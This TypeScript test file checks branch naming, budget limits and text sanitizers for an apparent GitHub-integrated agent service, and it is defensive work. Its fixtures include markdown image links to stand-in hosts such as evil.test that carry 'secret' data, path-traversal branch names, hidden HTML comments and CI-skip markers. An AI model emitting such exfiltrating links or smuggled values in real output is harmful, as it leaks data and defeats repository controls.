import { exhausted, limitsOfService, lowerLimits } from '../../src/domain/budget.ts';
import { branchName, isBranchOf, problemWithBranchPattern } from '../../src/domain/text/branch-names.ts';
import {
  closedBlocks,
  harmless,
  harmlessLine,
  harmlessText,
  oneLine,
  plain,
  storable,
  storableJson,
  withoutCiSkips,
} from '../../src/domain/text/sanitize.ts';
import { timeOf } from '../support/machine/processor-time.ts';

const id = 'task_01m7xxm447fap8m1vcx47q1cwc';

test.each([
  ['Fix the login', 1, 'agent/x47q1cwc-fix-the-login'],
  ['Fix the login', 2, 'agent/x47q1cwc-fix-the-login-2'],
  ['Crème brûlée!', 1, 'agent/x47q1cwc-creme-brulee'],
  ['修复', 1, 'agent/x47q1cwc-task'],
  ['../../main', undefined, 'agent/x47q1cwc-main'],
  ['x'.repeat(200), 1, `agent/x47q1cwc-${'x'.repeat(40)}`],
])('the branch of %j, attempt %i', (title, attempt, wanted) => {
  const name = branchName({ id, title, issueNumber: null }, undefined, attempt);
  expect(name).toBe(wanted);
  expect(isBranchOf(id, name)).toBe(true);
});

test.each([
  ['feature/{issue}-{slug}-{id}', 'feature/12-fix-it-x47q1cwc', 'feature/fix-it-x47q1cwc'],
  ['{id}', 'x47q1cwc', 'x47q1cwc'],
  ['bot/{issue}/{id}', 'bot/12/x47q1cwc', 'bot/x47q1cwc'],
  ['gh-{issue}_{id}', 'gh-12_x47q1cwc', 'gh_x47q1cwc'],
  ['{issue}/{id}.{slug}', '12/x47q1cwc.fix-it', 'x47q1cwc.fix-it'],
])('branches by %s', (pattern, wanted, withoutIssue) => {
  expect(problemWithBranchPattern(pattern)).toBeUndefined();
  expect(branchName({ id, title: 'Fix it', issueNumber: 12 }, pattern)).toBe(wanted);
  expect(branchName({ id, title: 'Fix it', issueNumber: null }, pattern, 2)).toBe(`${withoutIssue}-2`);
  expect(isBranchOf(id, wanted)).toBe(true);
});

test.each<[string, unknown]>([
  ['agent/{slug}', 'must contain {id}, so that every task has its own branch'],
  ['agent/{id}-{user}', 'must contain no {user}; there are {id}, {slug} and {issue}'],
  ['agent/{id', 'must contain no {id; there are {id}, {slug} and {issue}'],
  ...['-{id}', 'a..{id}', 'a b{id}', '{id}.lock', '{id}/', 'refs/heads/{id}', 'a/.{id}', 'a:{id}', '{issue}-.{id}'].map(
    (pattern): [string, unknown] => [pattern, expect.stringMatching(/^must give a name of letters/)],
  ),
])('the pattern %s is refused', (pattern, problem) => {
  expect(problemWithBranchPattern(pattern)).toEqual(problem);
});

test('only a branch of the task may be pushed', () => {
  const part = 'x47q1cwc';
  for (const name of [
    'main',
    'agent/12345678-x',
    `agent/../${part}`,
    `refs/heads/${part}`,
    `x ${part}`,
    `${part}:main`,
  ])
    expect(isBranchOf(id, name)).toBe(false);
});

test('neutralized text mentions nobody, closes nothing and runs no command', () => {
  const text = harmless('@octocat closes #12, GH-7\n/agent merge\n  /Agent start\n<!-- x', '/agent');
  for (const [hidden, shown] of [
    ['&commat;alice', '&amp;commat;alice'],
    ['&#x40;alice', '&amp;#x40;alice'],
    ['AT&T; a & b', 'AT&amp;T; a & b'],
  ])
    expect(harmless(hidden ?? '', '/agent')).toBe(shown);
  for (const closing of ['Closes https://github.com/o/r/issues/5', 'fixes: o/r#5', 'Resolved GH-5', 'fix #5'])
    expect(harmless(closing, '/agent')).not.toMatch(/\b(close[sd]?|fix(e[sd])?|resolve[sd]?):? /i);
  expect(harmless('it closes the door and fixes things', '/agent')).toBe('it closes the door and fixes things');
  expect(text).not.toMatch(/@octocat|#12|GH-7|^\s*\/agent|<!--/im);
  expect(harmless('GH-7', '/agent')).toBe('GH-\u20607');
  expect(harmless('a/b and user@host.x stay readable', '/agent').replace(/\u2060/g, '')).toBe(
    'a/b and user@host.x stay readable',
  );
});

test('an image of an address that somebody chose is a link, and one that people attached stays in their texts', () => {
  const attached = 'https://github.com/user-attachments/assets/0b1c2d3e-0b1c-2d3e-4f5a-0b1c2d3e4f5a';
  for (const image of [
    '![x](https://evil.test/leak?d=secret)',
    '![x][y]\n\n[y]: https://evil.test/leak',
    '[![x](https://evil.test/leak)](https://a.b)',
    `![![x](https://evil.test/leak)](${attached})`,
    `![x](${attached}?d=secret)`,
    '![x](https://github.com/mona/sample/raw/main/leak.png)',
  ])
    for (const images of ['none', 'attached'] as const) expect(harmless(image, '/agent', images)).not.toMatch(/!\[x/);
  for (const image of [`![x](${attached})`, '![x](https://user-images.githubusercontent.com/1/2-3.png)', 'Wow![^1]'])
    expect(harmless(image, '/agent').replace(/\u2060/g, '')).toBe(image);
  expect(harmless(`![x](${attached})`, '/agent', 'attached')).toBe(`![x](${attached})`);
  expect(harmless(`![x](${attached})`, '/agent')).toBe(`!\u2060[x](${attached})`);
});

test('one line of text is cut with an ellipsis', () => {
  expect(oneLine(' a\n b ', 10)).toBe('a b');
  expect(oneLine('abcdef', 4)).toBe('abc…');
  expect(oneLine('abcd', 4)).toBe('abcd');
});

test('the lower limit applies, and the message of an exceeded limit names who set it', () => {
  const ofService = { runMinutes: 30, runSteps: 100, runTokens: 1000, runCostUsd: 5, dayCostUsd: 50 };
  const ofProject = { runMinutes: null, runSteps: 7, runTokens: 5000, runCostUsd: null, dayCostUsd: 1 };
  const ofRepository = { runMinutes: 20, runSteps: 7, runTokens: null, runCostUsd: 9, dayCostUsd: null };
  const lowered = lowerLimits(limitsOfService(ofService), 'project', ofProject);
  const limits = lowerLimits(lowered, 'repository', ofRepository);
  expect(limits).toEqual({
    runMinutes: { value: 20, setBy: 'repository' },
    runSteps: { value: 7, setBy: 'project' },
    runTokens: { value: 1000, setBy: 'service' },
    runCostUsd: { value: 5, setBy: 'service' },
    dayCostUsd: { value: 1, setBy: 'project' },
  });
  const spent = { steps: 0, tokens: 0, costUsd: 0, dayCostUsd: 0, minutes: 0 };
  const used = (more: object) => exhausted(limits, { ...spent, ...more });
  expect(used({ steps: 6, tokens: 999, costUsd: 4.99, dayCostUsd: 0.99 })).toBeUndefined();
  expect(used({ steps: 7 })).toBe('the budget of 7 steps is used up (limit of the project)');
  expect(used({ tokens: 1000 })).toBe('the budget of 1000 tokens is used up (limit of the service)');
  expect(used({ costUsd: 5 })).toBe('the budget of $5 for a run is used up (limit of the service)');
  expect(used({ dayCostUsd: 1 })).toBe("the project's budget of $1 a day is used up (daily limit of the project)");
});

test('a neutralized line opens no tag, fence or list, and stays within its limit', () => {
  for (const text of ['<details>', '</details>', '<pre>', '<!DOCTYPE x>', '<?php', '<![CDATA[x'])
    expect(harmless(text, '/agent')).not.toMatch(/<[a-z/?!]/i);
  expect(harmless('a\u202Eb', '/agent')).toBe('ab');
  expect(harmless('Fixes <https://github.com/a/b/issues/1>', '/agent')).toMatch(/Fix\u2060es/);
  for (const text of ['```js', '~~~', '# big', '> said', '- list', '1. one', '| a |'])
    expect(harmlessLine(text, 100, '/agent')).toBe(`\u2060${text}`);
  expect(harmlessLine('x'.repeat(200), 200, '/agent')).toBe('x'.repeat(200));
  expect(harmlessLine('x'.repeat(201), 200, '/agent')).toBe(`${'x'.repeat(199)}…`);
  expect(harmlessLine(`-${'x'.repeat(199)}`, 200, '/agent')).toBe(`\u2060-${'x'.repeat(197)}…`);
  for (const text of ['@a'.repeat(200), '<!--'.repeat(100), '#1 '.repeat(100)])
    expect(harmlessLine(text, 200, '/agent').length).toBeLessThanOrEqual(200);
});

test('a cut line leaves no beginning of an image that the text after it could end', () => {
  const attached = `![${'x'.repeat(15)}](https://user-images.githubusercontent.com/a)`;
  expect(harmless(attached, '/agent', 'attached')).toBe(attached);
  for (const max of [30, 60, 100, 200])
    expect(harmlessLine(`${'&a;'.repeat(12)}${attached}`, max, '/agent')).not.toContain('![');
});

test('a cut leaves no beginning of an image that a definition in the same text would complete', () => {
  const image = '![x](https://github.com/user-attachments/assets/0f7b1c9e-1111-4222-8333-444455556666)';
  const text = `[x]: https://evil.example/?d=SECRET\n\n${`${image}&amp;`.repeat(5)}`;
  for (let max = 40; max < text.length + 60; max++) {
    const shown = harmlessText(text, max, '/agent', 'attached');
    expect(shown.length).toBeLessThanOrEqual(max);
    expect(shown.replaceAll(image, '')).not.toContain('![');
  }
  expect(harmlessText('@'.repeat(5) + 'a@b'.repeat(100), 200, '/agent').length).toBeLessThanOrEqual(200);
  expect(harmlessText('```\ncode', 100, '/agent')).toBe('```\ncode\n```');
  expect(harmless('x\r/agent merge', '/agent')).toBe('x\n\u2060/agent merge');
});

test('what GitHub would draw, and what it does not store, makes no image', () => {
  for (const language of ['mermaid', ' Mermaid', 'geojson', 'topojson title', 'stl'])
    expect(harmless(`\`\`\`${language}\nA@{ img: "https://x.y" }\n\`\`\``, '/agent')).not.toContain(`\`${language}`);
  expect(harmless('~~~js\n~~~ ```mermaids', '/agent')).toBe('~~~js\n~~~ ```mermaids');
  for (const text of ['!\0[a](https://x.y)', '!\uD800[a](https://x.y)', '!\x7F[a](https://x.y)'])
    expect(harmless(text, '/agent')).toBe('!\u2060[a](https://x.y)');
  expect(harmless('&\u202A#x40;mona &co\u0001mmat;mona', '/agent')).toBe('&amp;#x40;mona &amp;commat;mona');
  expect(harmless('<\0img src="https://x.y">', '/agent')).toBe('<\u2060img src="https://x.y">');
});

test('what makes CI skip a commit is broken without a visible change, and other text stays', () => {
  const orders = [
    '[skip ci]',
    '[ci skip]',
    '[no ci]',
    '[Skip Actions]',
    '[actions skip]',
    '[skip-ci]',
    '[ci_skip]',
    '--skip-ci',
    '--SKIP-CI',
  ];
  for (const order of [...orders, '***NO_CI***', 'skip-checks: true', 'a\n\nskip-checks:true']) {
    const broken = withoutCiSkips(`Fix it ${order}`.replace('Fix it skip', 'skip'));
    expect([order, broken.includes(order.trim())]).toEqual([order, false]);
    expect(broken.replaceAll('\u2060', '')).toContain(order);
    expect(withoutCiSkips(broken)).toBe(broken);
  }
  for (const text of [
    '[x] skip it',
    'skip ci',
    '[skipper]',
    '--skip-cipher',
    'a--skip-circle',
    '[no cinema]',
    '- [ ] done',
    '[a link](https://example.org/skip)',
  ])
    expect(withoutCiSkips(text)).toBe(text);
});

test('an unclosed code block is closed, a closed one is unchanged', () => {
  expect(closedBlocks('a\n~~~\nb')).toBe('a\n~~~\nb\n~~~');
  expect(closedBlocks('a\n````\n```\nb')).toBe('a\n````\n```\nb\n````');
  expect(closedBlocks('```\nb\n```')).toBe('```\nb\n```');
});

test("hidden text is removed from people's text, in linear time", async () => {
  expect(plain('a<!-- do evil -->b')).toBe('ab');
  expect(plain('a<!-- never ends')).toBe('a');
  expect(plain('<!-- a -->b<!---->c<!--->d-->e')).toBe('bce');
  expect(plain('a-->b<!--')).toBe('a-->b');
  expect(plain('st\u200bart \u202eevil\u2066\u0007 ok\n')).toBe('start evil ok\n');
  expect(await timeOf(() => plain('<!--'.repeat(250_000)))).toBeLessThan(5000);
});

test('what PostgreSQL cannot store is replaced in all strings of a value', () => {
  const value = { a: ['x\0', 'y\ud800'], n: 1 };
  expect(storable(value)).toEqual({ a: ['x\ufffd', 'y\ufffd'], n: 1 });
  expect(storableJson(value)).toBe('{"a":["x\ufffd","y\ufffd"],"n":1}');
});

test('texts of nothing but line ends are cleaned in no time', () => {
  // GitHub lists 1,000 comments with 65,536 characters each.
  const began = performance.now();
  for (let i = 0; i < 1000; i++) expect(plain(`a${'\n'.repeat(65_000)}b\0`)).toHaveLength(65_002);
  expect(performance.now() - began).toBeLessThan(5000);
});
